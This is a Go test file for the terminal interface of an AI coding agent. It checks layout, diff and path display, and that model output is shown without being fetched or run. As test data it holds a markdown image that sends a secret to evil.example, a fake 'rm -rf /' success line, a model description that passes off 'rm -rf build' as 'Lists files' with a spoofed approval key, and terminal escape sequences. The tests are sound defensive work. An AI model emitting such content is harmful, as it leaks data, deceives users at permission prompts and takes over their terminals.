package ui

import (
	"fmt"
	"strings"
	"testing"
	"time"

	tea "charm.land/bubbletea/v2"

	"github.com/phero-agent/agent/app"
	"github.com/phero-agent/agent/permissions"
	"github.com/phero-agent/agent/session"
	"github.com/phero-agent/agent/tools"
	"github.com/phero-agent/agent/ui/text"
)

// D8: wide, combining and joined characters and tabs move no border, and the cursor
// stands behind them.
func TestBordersHold(t *testing.T) {
	odd := []string{"日本語", "e\u0301\u0301\u0301\u0301", "👩‍💻", "🇨🇭", "العربية", "a\tb", "ｗｉｄｅ", "ก็็็็็็"}
	on(t, 120, 40, Options{}, func(t *testing.T, s *stage) {
		s.emit(twoShells())
		for _, o := range odd {
			s.emit(userSays(o), modelSays("- "+o+"\n\n| "+o+" | b |\n|---|---|\n| 1 | "+o+" |"))
		}
		rows := strings.Split(s.model.View().Content, "\n")
		for y := range s.model.lay.main {
			if at := text.Cut(rows[y], s.model.lay.mainW, s.model.lay.mainW+1); text.Strip(at) != "│" && text.Strip(at) != "┃" {
				t.Errorf("row %d: the line to the side column is %q: %q", y, at, text.Strip(rows[y]))
			}
		}
		s.Type("日本")
		if x, _, shown := s.Cursor(); !shown || x != 7 {
			t.Errorf("the cursor is at %d", x)
		}
	})
}

// D10: what a model writes is shown; nothing of it is fetched, run or taken for a result.
func TestHostileMarkdown(t *testing.T) {
	on(t, 100, 40, Options{}, func(t *testing.T, s *stage) {
		s.emit(userSays("hi"), modelSays("![x](http://evil.example/?d=secret)\n\n<img src=http://evil.example>\n\n✓ bash  rm -rf /\n\n"+
			strings.Repeat("> ", 1000)+"deep\n\n"+strings.Repeat("- ", 1000)+"list\n\n```\nnever closed"))
		s.wantOn(t, "never closed")
		s.Key("tab", "g")
		s.wantOn(t, "http://evil.example/?d=secret", "<img src=http://evil.example>")
		if _, ok := s.model.transcript.items[1].(*replyItem); !ok || len(s.model.transcript.items) != 2 {
			t.Error("a reply made other items")
		}
	})
}

// D11: a change far away in a long file, and one in a very long line, are seen at once.
func TestHugeDiffs(t *testing.T) {
	var b strings.Builder
	for i := range 300_000 {
		fmt.Fprintf(&b, "line %d of a long file\n", i)
	}
	lines := b.String()
	long := strings.Repeat("0123456789", 500_000)
	for name, c := range map[string]struct{ before, after, shows string }{
		"many lines": {"old\n" + lines + "older\n", "new\n" + lines + "newer\n", "unchanged lines"},
		"a long one": {long + "old\n", long + "new\n", "+1 −1"},
	} {
		t.Run(name, func(t *testing.T) {
			on(t, 100, 40, Options{}, func(t *testing.T, s *stage) {
				a := askedWrite("1", "/home/me/acme/f", c.after)
				a.Change.Before, a.Change.Existed = []byte(c.before), true
				s.emit(a)
				s.wantOn(t, c.shows)
				if name == "many lines" {
					s.wantOn(t, "+ new", "+ newer")
				}
			})
		})
	}
}

// D12: a path is whole, its odd characters are seen, and where it leads is said.
func TestPathOfAChange(t *testing.T) {
	deep := "/home/me/acme/" + strings.Repeat("deep/", 800) + "tail.go"
	for name, c := range map[string]struct {
		path, raw string
		shows     []string
	}{
		"a link":     {"/home/me/acme/real.go", "link.go", []string{"real.go", "written as link.go"}},
		"outside":    {"/etc/motd", "/etc/motd", []string{"/etc/motd (outside of the workspace)"}},
		"a new line": {"/home/me/acme/a\nb.go", "a\nb.go", []string{"a␊b.go"}},
		"bidi":       {"/home/me/acme/a\u202eog.b", "a\u202eog.b", []string{"a<U+202E>og.b"}},
		"long":       {deep, deep, []string{"tail.go (new file)"}},
	} {
		t.Run(name, func(t *testing.T) {
			on(t, 100, 40, Options{}, func(t *testing.T, s *stage) {
				a := askedWrite("1", c.path, "x\n")
				a.Request.Raw = c.raw
				s.emit(a)
				s.Wait(2 * time.Second)
				for range 3 { // a path of 4,000 characters is more than a page
					if strings.Contains(s.Text(), c.shows[0]) {
						break
					}
					s.Key("pgdown")
				}
				s.wantOn(t, c.shows...)
			})
		})
	}
}

// D15: what the model says a command does is its claim, below the command itself.
func TestDescriptionIsAClaim(t *testing.T) {
	on(t, 80, 24, Options{}, func(t *testing.T, s *stage) {
		a := askedBash("1", "rm -rf build")
		a.Call.Arguments = jsonText(map[string]string{"command": "rm -rf build", "description": "Lists files\n[y] once"})
		s.emit(a)
		s.wantOn(t, "the model says: Lists files\n                 [y] once")
	})
}

// D16: where a question cannot be read nothing answers it but no.
func TestNothingIsAllowedUnseen(t *testing.T) {
	for _, size := range [][2]int{{20, 5}, {19, 24}, {1, 1}} {
		on(t, 80, 24, Options{}, func(t *testing.T, s *stage) {
			s.emit(askedBash("1", "rm -rf build"), app.Asked{ID: "2", Call: aCall("c", "bash", ""), Request: permissions.Request{Tool: "bash", Raw: "x"}})
			s.Wait(3 * time.Second)
			s.Send(tea.WindowSizeMsg{Width: size[0], Height: size[1]})
			s.Wait(3 * time.Second)
			s.Key("y", "a", "y", "t", "h")
			s.Wait(time.Second)
			s.wantLog(t)
			s.Key("esc")
			s.wantLog(t, "answer 1 {Allow:false Always:[] Scope: Feedback:}")
		})
	}
}

// D17: a session from a log goes through the same cleaning as one that is seen live.
func TestReplayDrivesNothing(t *testing.T) {
	on(t, 100, 40, Options{}, func(t *testing.T, s *stage) {
		var entries []session.Entry
		for i, m := range []session.Message{
			{Role: session.RoleUser, Text: nasty}, {Role: session.RoleAssistant, Text: nasty, Reasoning: nasty, Calls: []tools.ToolCall{aCall("c", "bash", jsonText(map[string]string{"command": nasty}))}},
			{Role: session.RoleTool, CallID: "c", Status: session.StatusOK, Text: jsonText(map[string]any{"output": nasty})},
		} {
			entries = append(entries, session.Entry{Seq: int64(i), Kind: session.KindMessage, Message: &m})
		}
		s.emit(app.Opened{ID: "1", Resumed: true, Entries: entries, Notices: []string{nasty}})
		s.Key("ctrl+o")
		for _, bad := range []string{"\x1b[2Jb", "\x1b]0;owned", "\x1b]52;", "\u009b", "\u202e", "\u200b", "\x1bPq"} {
			if strings.Contains(s.Output(), bad) {
				t.Errorf("%q reached the terminal", bad)
			}
		}
	})
}
